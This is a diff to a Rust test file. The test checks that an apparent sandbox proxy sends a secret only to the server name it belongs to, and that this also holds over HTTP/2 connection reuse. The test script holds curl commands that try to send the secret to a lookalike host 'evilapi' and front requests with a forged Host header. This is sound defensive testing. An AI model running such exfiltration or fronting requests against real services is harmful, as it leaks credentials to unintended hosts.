@@ -824,7 +824,8 @@ echo "placeholder=$p"
 
 #[test]
 fn the_value_goes_only_to_the_server_name_the_secret_names() {
-    let w = World::new();
+    let mut w = World::new();
+    w.start_h2_echo();
     // api.example.test and www.example.test share an address, and this sandbox looked up
     // both: the address alone does not make www a host of the secret (its server name
     // must be one). evilapi.example.test ends with api.example.test's name but is another
@@ -837,6 +838,13 @@ try "https://www.example.test:8443/same-address?k=$p"
 try "https://evilapi.example.test:8443/suffix-name?k=$p"
 try -H "Host: evilapi.example.test" "https://api.example.test:8443/suffix-host?k=$p"
 try "https://www.example.test:8443/www-control"
+try --http2 "https://api.example.test:8445/right-h2?k=$p"
+# Over HTTP/2 the fronted request follows a good one on the same connection: the first
+# arrives, the second is answered 403 and never goes.
+h2="https://api.example.test:8445"
+curl -sS -m 10 --http2 -o /dev/null -w "first=%{http_code}\n" "$h2/before-h2?k=$p" \
+  --next -sS -m 10 --http2 -o /dev/null -H "Host: evilapi.example.test" \
+  -w "second=%{http_code} connects=%{num_connects}\n" "$h2/suffix-host-h2?k=$p"
 "#;
     let extra = intercepting(&w);
     let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
@@ -850,16 +858,25 @@ try "https://www.example.test:8443/www-control"
         stderr(&out)
     );
     assert!(reached(&w, "/www-control"), "{:?}", w.log());
+    for path in ["/right-h2", "/before-h2"] {
+        let got = arrived(&w, path);
+        assert_eq!(got["server"], "h2", "{got}");
+        assert_eq!(got["path"], format!("{path}?k={VALUE}"), "{got}");
+    }
+    // The refused request went over the connection the first one opened.
+    assert!(text.contains("first=200"), "{text}");
+    assert!(text.contains("second=403 connects=0"), "{text}");
     for path in ["/same-address", "/suffix-name", "/suffix-host"] {
         assert!(!reached(&w, path), "{path} arrived: {:?}", w.log());
     }
+    let allowed = ["/right", "/right-h2", "/before-h2"].map(|p| format!("{p}?k={VALUE}"));
     assert!(
         !w.log().iter().any(|l| l.to_string().contains(VALUE)
-            && l["path"].as_str() != Some(&format!("/right?k={VALUE}"))),
+            && !allowed.iter().any(|p| l["path"].as_str() == Some(p))),
         "{:?}",
         w.log()
     );
-    // Two violations (www, evilapi) and one request refused as fronting.
+    // Two violations (www, evilapi) and two requests refused as fronting.
     let hosts: Vec<&str> = violations(&events)
         .iter()
         .filter_map(|e| e["host"].as_str())
@@ -869,14 +886,18 @@ try "https://www.example.test:8443/www-control"
         ["www.example.test", "evilapi.example.test"],
         "{events:?}"
     );
-    assert!(
-        events.iter().any(|e| e["event"] == "tls"
-            && e["decision"] == "deny"
-            && e["reason"]
-                .as_str()
-                .is_some_and(|r| r.contains("evilapi.example.test"))),
-        "{events:?}"
-    );
+    // Refused as fronting: once over HTTP/1.1, once over HTTP/2.
+    let fronting = events
+        .iter()
+        .filter(|e| {
+            e["event"] == "tls"
+                && e["decision"] == "deny"
+                && e["reason"]
+                    .as_str()
+                    .is_some_and(|r| r.contains("evilapi.example.test"))
+        })
+        .count();
+    assert_eq!(fronting, 2, "{events:?}");
 }
 
 #[test]
